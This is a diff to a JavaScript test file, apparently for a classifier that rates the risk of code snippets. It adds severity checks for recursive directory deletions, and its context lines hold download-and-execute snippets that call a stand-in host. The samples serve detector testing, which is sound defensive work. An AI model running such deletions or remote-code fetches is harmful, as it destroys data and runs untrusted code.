@@ -14,6 +14,17 @@ test.each([
 });
 
 test.each([
+  ["fs.rmSync('dist', { recursive: true })", 'low'],
+  ["shutil.rmtree('build')", 'low'],
+  ["shutil.rmtree('build'); shutil.rmtree('src')", 'medium'],
+  ["shutil.rmtree('build'); shutil.rmtree(x)", 'medium'],
+  ["fs.rmSync('../dist', { recursive: true })", 'medium'],
+  ['fs.rmSync(`dist${x}`, { recursive: true })', 'medium'],
+])('%s weighs %s', (code, severity) => {
+  expect(readCode(code).deed?.severity).toBe(severity);
+});
+
+test.each([
   ["exec(urlopen('http://there.example').read())", 'Runs what it downloads.'],
   ["eval get('http://there.example')", 'Runs what it downloads.'],
   ["print(urlopen('http://there.example').read())", undefined],
